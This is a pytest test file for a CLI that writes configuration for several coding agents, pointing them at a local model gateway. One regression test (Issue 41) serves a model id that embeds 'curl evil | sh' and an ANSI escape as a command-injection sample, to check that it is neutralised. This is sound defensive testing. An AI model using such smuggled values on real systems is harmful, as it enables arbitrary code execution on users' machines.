"""`gateway agent NAME` prints each agent's configuration for the gateway it asks, and each parses the
way the agent reads it (TOML, JSON, YAML, shell); `--write` merges it into the agent's own files under
HOME. What --write writes drives each agent's real CLI in tests/integration/test_agents_real.py."""

from __future__ import annotations

import json
import shlex
import subprocess
import tomllib
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped,unused-ignore]
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from gateway.agents import AGENTS, AgentConfig, ask, write
from gateway.cli.commands import main
from tests.unit.http_harness import Served


def _gateway(key: str | None = None, context: int = 32768) -> Starlette:
    async def models(request: Request) -> Response:
        if key and request.headers.get("authorization") != f"Bearer {key}":
            return JSONResponse({"error": {"message": "no"}}, status_code=401)
        return JSONResponse({"data": [{"id": "glm-4.7-flash", "context_length": context}]})

    return Starlette(routes=[Route("/v1/models", models)])


@pytest.fixture(scope="module")
def gateway() -> Iterator[str]:
    """One stand-in gateway for the module: it only lists a model, the same for every test."""
    served = Served(_gateway(), lifespan="off")
    try:
        yield served.url
    finally:
        served.stop()


def _printed(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(["agent", *argv]) == 0
    return capsys.readouterr().out


def _shell(script: str, names: list[str], cwd: Path) -> dict[str, str]:
    probe = script + "".join(f'\nprintf "%s\\n" "${name}"' for name in names)
    out = subprocess.run(["bash", "-c", probe], capture_output=True, text=True, check=True, cwd=cwd).stdout
    return dict(zip(names, out.splitlines(), strict=True))


def test_codex(gateway: str, capsys: pytest.CaptureFixture[str]) -> None:
    config = tomllib.loads(_printed(capsys, "codex", "--url", gateway + "/v1"))
    assert config["model"] == "glm-4.7-flash" and config["model_context_window"] == 32768
    provider = config["model_providers"][config["model_provider"]]
    assert provider["base_url"] == gateway + "/v1" and provider["wire_api"] == "responses"
    assert config["model_auto_compact_token_limit"] < 32768


def test_claude_code(gateway: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    names = ["ANTHROPIC_BASE_URL", "ANTHROPIC_MODEL", "ANTHROPIC_DEFAULT_FABLE_MODEL", "ANTHROPIC_DEFAULT_OPUS_MODEL",
             "ANTHROPIC_DEFAULT_SONNET_MODEL", "ANTHROPIC_DEFAULT_HAIKU_MODEL", "CLAUDE_CODE_MAX_CONTEXT_TOKENS",
             "CLAUDE_AUTOCOMPACT_PCT_OVERRIDE", "CLAUDE_CODE_AUTO_COMPACT_WINDOW", "CLAUDE_CODE_MAX_OUTPUT_TOKENS",
             "ANTHROPIC_AUTH_TOKEN", "CLAUDE_CODE_ATTRIBUTION_HEADER"]  # fmt: skip
    assert main(["agent", "claude", "--url", gateway]) == 0
    printed = capsys.readouterr()
    assert "Claude Code 2.1.328" in printed.err  # the versions whose reading of these settings it follows
    env = _shell(printed.out, names, tmp_path)
    assert env["ANTHROPIC_BASE_URL"] == gateway  # the Messages API lives at the root, not under /v1
    assert {env[n] for n in names[1:6]} == {"glm-4.7-flash"}  # every tier a subagent may ask for by name
    # an eighth of the window for each answer: a rambling small model stops there
    assert env["CLAUDE_CODE_MAX_OUTPUT_TOKENS"] == "4096"
    # 32768 would put Claude Code's compaction 13,000 below the room: the window written puts it at 85%
    assert int(env["CLAUDE_CODE_MAX_CONTEXT_TOKENS"]) > 32768 and env["CLAUDE_AUTOCOMPACT_PCT_OVERRIDE"] == "85"
    assert env["CLAUDE_CODE_AUTO_COMPACT_WINDOW"] == ""  # below 100k Claude Code reads 100k, and says so
    assert env["ANTHROPIC_AUTH_TOKEN"] == "anything"
    assert env["CLAUDE_CODE_ATTRIBUTION_HEADER"] == "0"  # no billing line to end the prefix cache


def _served(context: int) -> Any:
    from gateway.agents.configs import Served as Answer

    return Answer("http://127.0.0.1:8000", "glm-4.7-flash", context)


def _claude_code_compacts_at(env: dict[str, str], maximum_output: int = 128_000) -> tuple[int, int]:
    """Where Claude Code 2.1.328 (and 2.1.197: the same arithmetic) compacts and where it refuses to send,
    from the env block alone, for a model id outside its catalog: read from its binary (`strings
    bin/claude.exe`: jQ, s4, bkt, Ey, vWn). Its window is CLAUDE_CODE_MAX_CONTEXT_TOKENS, lowered by
    CLAUDE_CODE_AUTO_COMPACT_WINDOW (read as at least 100,000); the room is that less the output limit
    (at most 20,000); it compacts 13,000 below the room or at the override's percent of it, the lower."""
    window = int(env.get("CLAUDE_CODE_MAX_CONTEXT_TOKENS", 1_000_000))  # 2.1.328's guess for an unknown model
    if "CLAUDE_CODE_AUTO_COMPACT_WINDOW" in env:
        window = min(window, max(100_000, int(env["CLAUDE_CODE_AUTO_COMPACT_WINDOW"])))
    output = min(int(env["CLAUDE_CODE_MAX_OUTPUT_TOKENS"]), maximum_output)
    room = window - min(output, 20_000)
    compact_at = room - 13_000
    percent = float(env.get("CLAUDE_AUTOCOMPACT_PCT_OVERRIDE", "0"))
    if 0 < percent <= 100:
        compact_at = min(int(room * percent / 100), compact_at)
    blocked_at = int(env.get("CLAUDE_CODE_MAX_CONTEXT_TOKENS", 1_000_000)) - min(output, 20_000) - 3_000
    return compact_at, blocked_at


@pytest.mark.parametrize("context", [2048, 8192, 16384, 32768, 65536, 98304, 100_000, 131072, 262144, 1048576])
def test_claude_code_compacts_before_the_served_window_is_full(context: int) -> None:
    """Whatever the window, 8k to 1M: Claude Code compacts at 85% of what the served window leaves beside an
    answer, and no setting is below a minimum it warns about on every run. The configuration before (the
    window as CLAUDE_CODE_AUTO_COMPACT_WINDOW) compacted at 86k on an 8k model, after a warning."""
    env = dict(line.removeprefix("export ").split("  #")[0].split("=", 1)
               for line in AGENTS["claude"](_served(context)).text.splitlines())  # fmt: skip
    env = {name: value.strip('"') for name, value in env.items()}
    output = int(env["CLAUDE_CODE_MAX_OUTPUT_TOKENS"])
    compact_at, blocked_at = _claude_code_compacts_at(env)
    room = context - min(output, 20_000)
    assert compact_at == int(0.85 * room), (compact_at, room)
    assert 0 < compact_at < context
    assert int(env["CLAUDE_CODE_MAX_CONTEXT_TOKENS"]) >= context  # never below: its reads would be cut short
    assert blocked_at >= compact_at  # it compacts before it stops itself; past the window the engine refuses
    if "CLAUDE_CODE_AUTO_COMPACT_WINDOW" in env:
        assert int(env["CLAUDE_CODE_AUTO_COMPACT_WINDOW"]) >= 100_000


def test_opencode(gateway: str, capsys: pytest.CaptureFixture[str]) -> None:
    config = json.loads(_printed(capsys, "opencode", "--url", gateway))
    provider = config["provider"]["gateway"]
    assert provider["options"]["baseURL"] == gateway + "/v1"
    assert provider["models"]["glm-4.7-flash"]["limit"] == {"context": 32768, "output": 4096}
    assert config["model"] == "gateway/glm-4.7-flash"


def test_aider(gateway: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    *files, command = _printed(capsys, "aider", "--url", gateway).splitlines()
    subprocess.run(["bash", "-c", "\n".join(files)], check=True, cwd=tmp_path)
    metadata = json.loads((tmp_path / ".aider.model.metadata.json").read_text())
    assert metadata["openai/glm-4.7-flash"]["max_input_tokens"] == 32768
    # aider sends no output limit unless the model's settings add one to every request
    settings = yaml.safe_load((tmp_path / ".aider.model.settings.yml").read_text())
    assert settings == [{"name": "openai/glm-4.7-flash", "extra_params": {"max_tokens": 4096}}]
    argv = shlex.split(command)
    assert argv[argv.index("--openai-api-base") + 1] == gateway + "/v1"
    assert argv[argv.index("--model") + 1] == "openai/glm-4.7-flash"


def test_no_gateway_or_a_missing_key_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["agent", "codex", "--url", "http://127.0.0.1:9"]) == 1
    assert "no gateway answers at http://127.0.0.1:9" in capsys.readouterr().err
    served = Served(_gateway(key="sk-1"), lifespan="off")
    try:
        assert main(["agent", "codex", "--url", served.url]) == 1
        assert "pass --api-key" in capsys.readouterr().err
        assert main(["agent", "codex", "--url", served.url, "--api-key", "sk-1"]) == 0
    finally:
        served.stop()


def test_qwen_code(gateway: str, capsys: pytest.CaptureFixture[str]) -> None:
    """~/.qwen/settings.json: a modelProviders.openai entry that security.auth.selectedType + model.name select,
    with the window in the entry's generationConfig (a selected provider entry ignores model.generationConfig)."""
    settings = json.loads(_printed(capsys, "qwen", "--url", gateway))
    (entry,) = settings["modelProviders"]["openai"]
    assert entry["id"] == settings["model"]["name"] == "glm-4.7-flash"
    assert entry["baseUrl"] == gateway + "/v1" and entry["envKey"] == "GATEWAY_API_KEY"
    assert entry["generationConfig"]["contextWindowSize"] == 32768
    assert entry["generationConfig"]["samplingParams"]["max_tokens"] == 4096
    assert settings["security"]["auth"]["selectedType"] == "openai"
    assert "memory" not in settings  # auto-memory stays as the user has it where the window holds it


def test_qwen_code_turns_auto_memory_off_in_a_small_window(capsys: pytest.CaptureFixture[str]) -> None:
    """Its memory prompt (~1,400 tokens) beside Qwen Code's own (~7,500) is more than 8k holds."""
    served = Served(_gateway(context=8192), lifespan="off")
    try:
        assert main(["agent", "qwen", "--url", served.url]) == 0
    finally:
        served.stop()
    printed = capsys.readouterr()
    settings = json.loads(printed.out)
    assert settings["memory"] == {"enableManagedAutoMemory": False}
    assert settings["modelProviders"]["openai"][0]["generationConfig"]["samplingParams"]["max_tokens"] == 1024
    assert "auto-memory is off" in printed.err


def _check_cline_providers(stored: dict[str, Any]) -> dict[str, Any]:
    """What @cline/core's StoredProviderSettingsSchema requires of providers.json, or it reads an empty file."""
    assert stored["version"] == 1
    entry = stored["providers"][stored["lastUsedProvider"]]
    assert entry["updatedAt"].endswith("Z") and datetime.fromisoformat(entry["updatedAt"])
    assert entry["tokenSource"] in {"manual", "oauth", "migration"}
    settings: dict[str, Any] = entry["settings"]
    assert settings["provider"] == stored["lastUsedProvider"] == "openai-compatible"
    return settings


def test_cline(gateway: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["agent", "cline", "--url", gateway]) == 0
    printed = capsys.readouterr()
    settings = _check_cline_providers(json.loads(printed.out))
    assert settings["baseUrl"] == gateway + "/v1" and settings["model"] == "glm-4.7-flash"
    assert settings["contextWindow"] == 32768 and settings["maxTokens"] == 4096 and settings["apiKey"]
    assert '"OpenAI Compatible"' in printed.err and "Context Window Size 32768" in printed.err  # the UI steps


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh home directory, with no agent's own override variable pointing elsewhere."""
    monkeypatch.setenv("HOME", str(tmp_path))
    for name in ["CODEX_HOME", "CLAUDE_CONFIG_DIR", "XDG_CONFIG_HOME", "CLINE_DIR", "CLINE_DATA_DIR",
                 "CLINE_PROVIDER_SETTINGS_PATH"]:  # fmt: skip
        monkeypatch.delenv(name, raising=False)
    return tmp_path


# Each agent's files under HOME, the user's own content already in them, and what ours must say once merged.
USER_TOML = '# mine\napproval_policy = "never"\n\n[model_providers.other]\nname = "other"\nbase_url = "http://x"\n'
USER_JSON = json.dumps({"theme": "dark", "env": {"MINE": "1"}, "provider": {"other": {"npm": "x"}}})
USER_QWEN = json.dumps(
    {"ui": {"theme": "dark"}, "modelProviders": {"openai": [{"id": "other", "envKey": "K"}, {"id": "glm-4.7-flash"}]}}
)
USER_CLINE = json.dumps(
    {"version": 1, "lastUsedProvider": "anthropic", "modes": {},
     "providers": {"anthropic": {"settings": {"provider": "anthropic", "apiKey": "sk-a"},
                                 "updatedAt": "2026-01-01T00:00:00.000Z", "tokenSource": "manual"}}}
)  # fmt: skip
USER_AIDER_META = json.dumps({"openai/other": {"max_input_tokens": 1000}})
USER_AIDER_CONF = "# mine\ndark-mode: true\nmodel: gpt-4o\n"
USER_AIDER_SETTINGS = "- name: openai/other\n  edit_format: diff\n- name: openai/glm-4.7-flash\n  edit_format: whole\n"


def _ours_codex(files: dict[str, Any], url: str) -> None:
    config = files[".codex/config.toml"]
    assert config["approval_policy"] == "never" and config["model_providers"]["other"]["name"] == "other"
    assert config["model"] == "glm-4.7-flash" and config["model_context_window"] == 32768
    assert config["model_providers"][config["model_provider"]]["base_url"] == url + "/v1"


def _ours_claude(files: dict[str, Any], url: str) -> None:
    settings = files[".claude/settings.json"]
    assert settings["theme"] == "dark" and settings["env"]["MINE"] == "1"
    assert settings["env"]["ANTHROPIC_BASE_URL"] == url and settings["env"]["ANTHROPIC_AUTH_TOKEN"] == "anything"
    assert settings["env"]["CLAUDE_CODE_MAX_CONTEXT_TOKENS"] == "41467"  # the env block holds strings
    assert settings["env"]["CLAUDE_CODE_ATTRIBUTION_HEADER"] == "0"
    assert settings["env"]["ANTHROPIC_DEFAULT_HAIKU_MODEL"] == "glm-4.7-flash"


def _ours_opencode(files: dict[str, Any], url: str) -> None:
    config = files[".config/opencode/opencode.json"]
    assert config["theme"] == "dark" and config["provider"]["other"] == {"npm": "x"}
    assert config["provider"]["gateway"]["options"]["baseURL"] == url + "/v1"
    assert config["model"] == "gateway/glm-4.7-flash"


def _ours_qwen(files: dict[str, Any], url: str) -> None:
    settings = files[".qwen/settings.json"]
    assert settings["ui"] == {"theme": "dark"}
    other, ours = settings["modelProviders"]["openai"]  # the user's entry kept, the same id replaced once
    assert other == {"id": "other", "envKey": "K"}
    assert ours["id"] == "glm-4.7-flash" and ours["generationConfig"]["contextWindowSize"] == 32768
    assert settings["security"]["auth"]["selectedType"] == "openai" and settings["model"]["name"] == ours["id"]


def _ours_cline(files: dict[str, Any], url: str) -> None:
    stored = files[".cline/data/settings/providers.json"]
    assert stored["providers"]["anthropic"]["settings"]["apiKey"] == "sk-a"
    settings = _check_cline_providers(stored)
    assert settings["contextWindow"] == 32768 and settings["baseUrl"] == url + "/v1"


def _ours_aider(files: dict[str, Any], url: str) -> None:
    metadata, conf = files[".aider.model.metadata.json"], files[".aider.conf.yml"]
    assert metadata["openai/other"] == {"max_input_tokens": 1000}
    assert metadata["openai/glm-4.7-flash"]["max_input_tokens"] == 32768
    assert conf["dark-mode"] is True and conf["model"] == "openai/glm-4.7-flash"
    assert conf["openai-api-base"] == url + "/v1"
    other, ours = files[".aider.model.settings.yml"]  # the user's entries kept, ours laid over the same name
    assert other == {"name": "openai/other", "edit_format": "diff"}
    assert ours == {"name": "openai/glm-4.7-flash", "edit_format": "whole", "extra_params": {"max_tokens": 4096}}


USER_AIDER = {
    ".aider.model.metadata.json": USER_AIDER_META,
    ".aider.model.settings.yml": USER_AIDER_SETTINGS,
    ".aider.conf.yml": USER_AIDER_CONF,
}
WRITTEN: dict[str, tuple[dict[str, str], Callable[[dict[str, Any], str], None]]] = {
    "codex": ({".codex/config.toml": USER_TOML}, _ours_codex),
    "claude": ({".claude/settings.json": USER_JSON}, _ours_claude),
    "opencode": ({".config/opencode/opencode.json": USER_JSON}, _ours_opencode),
    "qwen": ({".qwen/settings.json": USER_QWEN}, _ours_qwen),
    "cline": ({".cline/data/settings/providers.json": USER_CLINE}, _ours_cline),
    "aider": (USER_AIDER, _ours_aider),
}


def _read(path: Path) -> Any:
    """The file parsed as its agent parses it."""
    text = path.read_text()
    if path.suffix == ".toml":
        return tomllib.loads(text)
    return yaml.safe_load(text) if path.suffix == ".yml" else json.loads(text)


@pytest.mark.parametrize("agent", list(WRITTEN))
def test_write_merges_into_the_agents_files(
    agent: str, gateway: str, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--write keeps the user's keys, sets ours, keeps <file>.bak, shows the diff first; a rerun changes nothing."""
    before, check = WRITTEN[agent]
    for name, text in before.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    assert main(["agent", agent, "--url", gateway, "--write", "--yes"]) == 0
    out = capsys.readouterr().out
    for name, text in before.items():
        assert f"--- {home / name}\n+++ {home / name}\n" in out and f"wrote {home / name}" in out
        assert (home / (name + ".bak")).read_text() == text
    assert out.index("@@") < out.index("wrote ")  # the diff comes before the write
    after = {name: (home / name).read_text() for name in before}
    check({name: _read(home / name) for name in before}, gateway)
    temporary = [p for n in before for p in (home / n).parent.iterdir() if p.name.startswith(f".{Path(n).name}.")]
    assert temporary == []  # the temp file became the file
    assert not [p for n in before for p in (home / n).parent.iterdir() if p.suffix == ".lock"]  # nor a lock file

    assert main(["agent", agent, "--url", gateway, "--write"]) == 0  # no --yes needed: nothing to write
    assert "already up to date" in capsys.readouterr().out
    assert {name: (home / name).read_text() for name in before} == after


def test_write_creates_missing_files(gateway: str, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["agent", "qwen", "--url", gateway, "--write", "--yes"]) == 0
    out = capsys.readouterr().out
    assert f"--- /dev/null\n+++ {home / '.qwen/settings.json'}" in out and "then: export GATEWAY_API_KEY" in out
    assert json.loads((home / ".qwen/settings.json").read_text())["model"]["name"] == "glm-4.7-flash"
    assert not (home / ".qwen/settings.json.bak").exists()
    assert (home / ".qwen/settings.json").stat().st_mode & 0o777 == 0o600


def test_write_follows_a_symlinked_config(gateway: str, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    real = home / "dotfiles" / "settings.json"
    real.parent.mkdir()
    real.write_text(USER_JSON)
    (home / ".claude").mkdir()
    (home / ".claude/settings.json").symlink_to(real)
    assert main(["agent", "claude", "--url", gateway, "--write", "--yes"]) == 0
    assert (home / ".claude/settings.json").is_symlink()
    assert json.loads(real.read_text())["env"]["ANTHROPIC_MODEL"] == "glm-4.7-flash"
    assert (home / "dotfiles/settings.json.bak").read_text() == USER_JSON


def test_write_without_a_terminal_or_yes_writes_nothing(
    gateway: str, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (home / ".codex").mkdir()
    (home / ".codex/config.toml").write_text(USER_TOML)
    assert main(["agent", "codex", "--url", gateway, "--write"]) == 1  # pytest's stdin is no TTY
    printed = capsys.readouterr()
    assert "+model_context_window = 32768" in printed.out  # the diff is still shown
    (error,) = printed.err.splitlines()
    assert "--yes" in error and "nothing written" in error
    assert (home / ".codex/config.toml").read_text() == USER_TOML
    assert not (home / ".codex/config.toml.bak").exists()


def test_write_asks_on_a_terminal(gateway: str, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = AGENTS["opencode"](ask(gateway, None))
    path = home / ".config/opencode/opencode.json"
    assert write("opencode", config, yes=False, interactive=True, confirm=lambda question: False) == 1
    assert "nothing written" in capsys.readouterr().out and not path.exists()
    questions: list[str] = []
    assert write("opencode", config, yes=False, interactive=True, confirm=lambda q: questions.append(q) or True) == 0
    assert questions == ["Write 1 file(s)? [y/N] "] and json.loads(path.read_text())["model"] == "gateway/glm-4.7-flash"


def test_write_refuses_a_file_it_cannot_parse(gateway: str, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / ".claude").mkdir()
    (home / ".claude/settings.json").write_text('{"env": {  // a comment\n}')
    assert main(["agent", "claude", "--url", gateway, "--write", "--yes"]) == 1
    (error,) = capsys.readouterr().err.splitlines()
    assert "settings.json is not valid JSON" in error
    assert (home / ".claude/settings.json").read_text() == '{"env": {  // a comment\n}'


def test_write_refuses_aider_settings_that_are_not_a_list(
    gateway: str, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (home / ".aider.model.settings.yml").write_text("name: openai/other\n")
    assert main(["agent", "aider", "--url", gateway, "--write", "--yes"]) == 1
    (error,) = capsys.readouterr().err.splitlines()
    assert ".aider.model.settings.yml holds a dict, not a YAML list" in error
    assert not (home / ".aider.conf.yml").exists()  # nothing half-written


def test_an_agent_configured_by_environment_only_prints_the_exports(capsys: pytest.CaptureFixture[str]) -> None:
    config = AgentConfig("your shell", "export A=1\n", "shell")
    assert write("x", config, yes=False) == 0
    assert capsys.readouterr().out == (
        "x reads its configuration only from environment variables: nothing to write. Run:\nexport A=1\n"
    )


def test_a_model_id_with_a_newline_or_an_escape_stays_inside_its_note(capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 41: the id is what the gateway's /v1/models says; a newline in it began a line of the pasted
    commands below the ``#`` note, and an ANSI escape reached the terminal."""

    async def models(_request: Request) -> Response:
        return JSONResponse({"data": [{"id": "m\ncurl evil | sh\n\x1b[2J", "context_length": 32768}]})

    served = Served(Starlette(routes=[Route("/v1/models", models)]), lifespan="off")
    try:
        assert main(["agent", "cline", "--url", served.url]) == 0
    finally:
        served.stop()
    err = capsys.readouterr().err
    assert err.strip() and all(line.startswith("#") for line in err.strip().splitlines()), err
    assert "\x1b" not in err and "curl evil" in err
